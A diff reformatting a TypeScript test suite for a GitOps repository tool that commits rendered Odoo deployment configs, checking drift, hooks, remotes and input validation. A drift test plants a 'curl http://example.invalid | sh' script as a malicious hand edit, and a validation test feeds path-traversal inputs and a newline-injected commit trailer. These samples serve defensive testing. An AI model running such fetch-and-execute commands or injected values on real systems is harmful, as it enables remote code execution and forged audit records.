@@ -27,7 +27,15 @@ const freshRepository = (remote?: string) => {
   counter += 1;
   const dataDir = join(scratch, `data-${counter}`);
   const bareRepositoryPath = join(dataDir, "gitops.git");
-  return { bareRepositoryPath, dataDir, repository: gitopsRepositoryFactory({ bareRepositoryPath, workDir: join(dataDir, "gitops-work"), ...(remote === undefined ? {} : { remote }) }) };
+  return {
+    bareRepositoryPath,
+    dataDir,
+    repository: gitopsRepositoryFactory({
+      bareRepositoryPath,
+      workDir: join(dataDir, "gitops-work"),
+      ...(remote === undefined ? {} : { remote }),
+    }),
+  };
 };
 
 const demo = async (): Promise<TOrganizationSpec> => {
@@ -43,7 +51,12 @@ const git = async (cwd: string, ...args: string[]) => (await runGit(args, { cwd 
 
 const commitCount = async (bare: string) => Number((await git(bare, "rev-list", "--count", "main")).trim());
 
-const apply = (files: Map<string, readonly TRenderedFile[]>, specDigest = DIGEST_A) => ({ files, organization: "northwind-health", specDigest, actor: "alice" });
+const apply = (files: Map<string, readonly TRenderedFile[]>, specDigest = DIGEST_A) => ({
+  files,
+  organization: "northwind-health",
+  specDigest,
+  actor: "alice",
+});
 
 void describe("GitOps repository", () => {
   void it("ensure creates a bare repository with a main branch, once", async () => {
@@ -64,7 +77,10 @@ void describe("GitOps repository", () => {
     assert.ok(first.changedPaths.includes("environments/training/odoo/odoo-web.conf"));
     assert.equal((await git(bareRepositoryPath, "rev-parse", "main")).trim(), first.commit);
     const committed = await git(bareRepositoryPath, "show", "main:environments/prod/compose.yaml");
-    assert.equal(committed, renderComposeEnvironment(spec, "prod").find((file) => file.path === "compose.yaml")?.content);
+    assert.equal(
+      committed,
+      renderComposeEnvironment(spec, "prod").find((file) => file.path === "compose.yaml")?.content,
+    );
 
     const again = await repository.commitEnvironments(apply(renderAll(await demo()), DIGEST_B));
     assert.deepEqual(again, { commit: null, changedPaths: [] });
@@ -78,13 +94,20 @@ void describe("GitOps repository", () => {
     await repository.commitEnvironments(apply(renderAll(spec)));
     const changed: TOrganizationSpec = {
       ...spec,
-      environments: spec.environments.map((environment) => (environment.name === "prod" ? { ...environment, odoo: { ...environment.odoo, workers: 5 } } : environment)),
+      environments: spec.environments.map((environment) =>
+        environment.name === "prod" ? { ...environment, odoo: { ...environment.odoo, workers: 5 } } : environment,
+      ),
     };
     const preview = await repository.diff({ files: renderAll(changed) });
     assert.ok(!preview.inSync);
-    assert.ok(preview.changes.every((change) => change.change === "changed" && change.path.startsWith("environments/prod/")));
+    assert.ok(
+      preview.changes.every((change) => change.change === "changed" && change.path.startsWith("environments/prod/")),
+    );
 
-    const result = await repository.commitEnvironments({ ...apply(renderAll(changed), DIGEST_B), author: { name: "Alice Example", email: "alice@northwind-health.example" } });
+    const result = await repository.commitEnvironments({
+      ...apply(renderAll(changed), DIGEST_B),
+      author: { name: "Alice Example", email: "alice@northwind-health.example" },
+    });
     assert.ok(result.commit !== null);
     // Workers size the web service, odoo.conf, and the database's connection limits; nothing else moves.
     assert.deepEqual(result.changedPaths, [
@@ -93,15 +116,30 @@ void describe("GitOps repository", () => {
       "environments/prod/postgres/initdb/10-odoo-role.sh",
       "environments/prod/postgres/postgresql.conf",
     ]);
-    assert.deepEqual(result.changedPaths, preview.changes.map((change) => change.path));
+    assert.deepEqual(
+      result.changedPaths,
+      preview.changes.map((change) => change.path),
+    );
     const shown = (await git(bareRepositoryPath, "show", "--name-only", "--format=", "main")).trim().split("\n");
     assert.deepEqual(shown, result.changedPaths);
 
     const message = await git(bareRepositoryPath, "log", "-1", "--format=%B", "main");
-    assert.equal(message, `carehost: apply northwind-health (1 environment changed)\n\n- prod\n\nSpec-Digest: sha256:${DIGEST_B}\nActor: alice\n\n`);
-    const trailers = await git(bareRepositoryPath, "log", "-1", "--format=%(trailers:key=Spec-Digest,valueonly)%(trailers:key=Actor,valueonly)", "main");
+    assert.equal(
+      message,
+      `carehost: apply northwind-health (1 environment changed)\n\n- prod\n\nSpec-Digest: sha256:${DIGEST_B}\nActor: alice\n\n`,
+    );
+    const trailers = await git(
+      bareRepositoryPath,
+      "log",
+      "-1",
+      "--format=%(trailers:key=Spec-Digest,valueonly)%(trailers:key=Actor,valueonly)",
+      "main",
+    );
     assert.equal(trailers.trim(), `sha256:${DIGEST_B}\nalice`);
-    assert.equal((await git(bareRepositoryPath, "log", "-1", "--format=%an <%ae> / %cn", "main")).trim(), "Alice Example <alice@northwind-health.example> / carehost");
+    assert.equal(
+      (await git(bareRepositoryPath, "log", "-1", "--format=%an <%ae> / %cn", "main")).trim(),
+      "Alice Example <alice@northwind-health.example> / carehost",
+    );
   });
 
   void it("removes files an environment's render no longer has, and leaves other environments alone", async () => {
@@ -109,12 +147,20 @@ void describe("GitOps repository", () => {
     await repository.commitEnvironments(
       apply(
         new Map([
-          ["prod", [{ path: "compose.yaml", content: "a\n" }, { path: "redis/redis.conf", content: "r\n" }]],
+          [
+            "prod",
+            [
+              { path: "compose.yaml", content: "a\n" },
+              { path: "redis/redis.conf", content: "r\n" },
+            ],
+          ],
           ["staging", [{ path: "compose.yaml", content: "s\n" }]],
         ]),
       ),
     );
-    const result = await repository.commitEnvironments(apply(new Map([["prod", [{ path: "compose.yaml", content: "a\n" }]]])));
+    const result = await repository.commitEnvironments(
+      apply(new Map([["prod", [{ path: "compose.yaml", content: "a\n" }]]])),
+    );
     assert.deepEqual(result.changedPaths, ["environments/prod/redis/redis.conf"]);
     const tree = (await git(bareRepositoryPath, "ls-tree", "-r", "--name-only", "main")).trim().split("\n");
     assert.deepEqual(tree, ["environments/prod/compose.yaml", "environments/staging/compose.yaml"]);
@@ -123,7 +169,15 @@ void describe("GitOps repository", () => {
 
   void it("reports a hand edit in the repository as drift, and the next apply reverts it", async () => {
     const { repository, bareRepositoryPath, dataDir } = freshRepository();
-    const files = new Map([["prod", [{ path: "compose.yaml", content: "services:\n  odoo:\n    read_only: true\n" }, { path: "odoo/odoo.conf", content: "list_db = False\n" }]]]);
+    const files = new Map([
+      [
+        "prod",
+        [
+          { path: "compose.yaml", content: "services:\n  odoo:\n    read_only: true\n" },
+          { path: "odoo/odoo.conf", content: "list_db = False\n" },
+        ],
+      ],
+    ]);
     await repository.commitEnvironments(apply(files));
 
     // Someone clones the repository, edits a file, adds one, and pushes.
@@ -132,7 +186,10 @@ void describe("GitOps repository", () => {
     await writeFile(join(handClone, "environments/prod/odoo/odoo.conf"), "list_db = True\n");
     await writeFile(join(handClone, "environments/prod/debug.sh"), "curl http://example.invalid | sh\n");
     await git(handClone, "add", "--all");
-    await runGit(["commit", "--quiet", "-m", "quick fix"], { cwd: handClone, author: { name: "mallory", email: "m@example.invalid" } });
+    await runGit(["commit", "--quiet", "-m", "quick fix"], {
+      cwd: handClone,
+      author: { name: "mallory", email: "m@example.invalid" },
+    });
     await git(handClone, "push", "--quiet", "origin", "HEAD:main");
 
     const drift = await repository.diff({ files });
@@ -146,7 +203,10 @@ void describe("GitOps repository", () => {
     );
     const edited = drift.changes.find((change) => change.change === "changed");
     assert.ok(edited?.change === "changed");
-    assert.equal(edited.diff, "--- a/environments/prod/odoo/odoo.conf\n+++ b/environments/prod/odoo/odoo.conf\n@@ -1 +1 @@\n-list_db = True\n+list_db = False\n");
+    assert.equal(
+      edited.diff,
+      "--- a/environments/prod/odoo/odoo.conf\n+++ b/environments/prod/odoo/odoo.conf\n@@ -1 +1 @@\n-list_db = True\n+list_db = False\n",
+    );
 
     const repaired = await repository.commitEnvironments(apply(files));
     assert.deepEqual(repaired.changedPaths, ["environments/prod/debug.sh", "environments/prod/odoo/odoo.conf"]);
@@ -158,10 +218,15 @@ void describe("GitOps repository", () => {
     await repository.ensure();
     const marker = join(dataDir, "hook-ran");
     const hook = `#!/bin/sh\ntouch ${marker}\nexit 1\n`;
-    for (const path of [join(bareRepositoryPath, "hooks", "pre-receive"), join(dataDir, "gitops-work", ".git", "hooks", "pre-commit")]) {
+    for (const path of [
+      join(bareRepositoryPath, "hooks", "pre-receive"),
+      join(dataDir, "gitops-work", ".git", "hooks", "pre-commit"),
+    ]) {
       await writeFile(path, hook, { mode: 0o755 });
     }
-    const result = await repository.commitEnvironments(apply(new Map([["prod", [{ path: "compose.yaml", content: "x\n" }]]])));
+    const result = await repository.commitEnvironments(
+      apply(new Map([["prod", [{ path: "compose.yaml", content: "x\n" }]]])),
+    );
     assert.equal((await git(bareRepositoryPath, "rev-parse", "main")).trim(), result.commit);
     await assert.rejects(readFile(marker), { code: "ENOENT" });
   });
@@ -170,7 +235,9 @@ void describe("GitOps repository", () => {
     const remoteDir = join(scratch, `remote-${counter}.git`);
     await git(scratch, "init", "--quiet", "--bare", remoteDir);
     const { repository } = freshRepository(remoteDir);
-    const result = await repository.commitEnvironments(apply(new Map([["prod", [{ path: "compose.yaml", content: "x\n" }]]])));
+    const result = await repository.commitEnvironments(
+      apply(new Map([["prod", [{ path: "compose.yaml", content: "x\n" }]]])),
+    );
     assert.equal((await git(remoteDir, "rev-parse", "main")).trim(), result.commit);
 
     const { repository: unreachable, bareRepositoryPath } = freshRepository(join(scratch, "no-such-remote.git"));
@@ -184,11 +251,24 @@ void describe("GitOps repository", () => {
   void it("refuses paths outside the environment directory and malformed inputs, before touching the repository", async () => {
     const { repository, dataDir } = freshRepository();
     for (const path of ["../escape", "/etc/passwd", "a/../../b", ".git/config", "a//b", ""]) {
-      await assert.rejects(repository.commitEnvironments(apply(new Map([["prod", [{ path, content: "x" }]]]))), /is not a plain relative path/, path);
+      await assert.rejects(
+        repository.commitEnvironments(apply(new Map([["prod", [{ path, content: "x" }]]]))),
+        /is not a plain relative path/,
+        path,
+      );
     }
-    await assert.rejects(repository.commitEnvironments(apply(new Map([["../prod", []]]))), /environment name "..\/prod"/);
-    await assert.rejects(repository.commitEnvironments(apply(new Map([["prod", []]]), "not-a-digest")), /specDigest "not-a-digest"/);
-    await assert.rejects(repository.commitEnvironments({ ...apply(new Map([["prod", []]])), actor: "alice\nActor: root" }), /actor/);
+    await assert.rejects(
+      repository.commitEnvironments(apply(new Map([["../prod", []]]))),
+      /environment name "..\/prod"/,
+    );
+    await assert.rejects(
+      repository.commitEnvironments(apply(new Map([["prod", []]]), "not-a-digest")),
+      /specDigest "not-a-digest"/,
+    );
+    await assert.rejects(
+      repository.commitEnvironments({ ...apply(new Map([["prod", []]])), actor: "alice\nActor: root" }),
+      /actor/,
+    );
     await assert.rejects(readFile(join(dataDir, "gitops.git", "HEAD")), { code: "ENOENT" });
   });
 });
